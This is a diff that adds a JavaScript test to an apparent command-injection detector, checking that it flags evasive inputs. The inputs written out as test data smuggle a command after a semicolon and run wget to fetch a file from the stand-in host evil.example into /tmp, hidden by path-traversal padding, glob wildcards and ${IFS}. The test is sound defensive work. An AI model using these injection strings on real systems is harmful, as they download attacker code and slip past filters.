@@ -202,3 +202,10 @@ test('inspectText is sure of options that run a program, behind other options an
   for (const text of ['Our manual explains --to-command=id in chapter two', 'a-b=c', '--output=x --verbose'])
     deepEqual(kindsOf(text), [], text);
 });
+
+test('inspectText finds a program at either end of a very long word', () => {
+  const directories = 'a/../'.repeat(2_000);
+  deepEqual(kindsOf(`x; /${directories}bin/wget http://evil.example/x -O /tmp/x`).includes('command'), true);
+  deepEqual(kindsOf(`x; /${directories}b?n/w?et http://evil.example/x -O /tmp/x`).includes('command'), true);
+  deepEqual(kindsOf(`x; wget\${IFS}http://evil.example/${'a'.repeat(5_000)}`).includes('command'), true);
+});
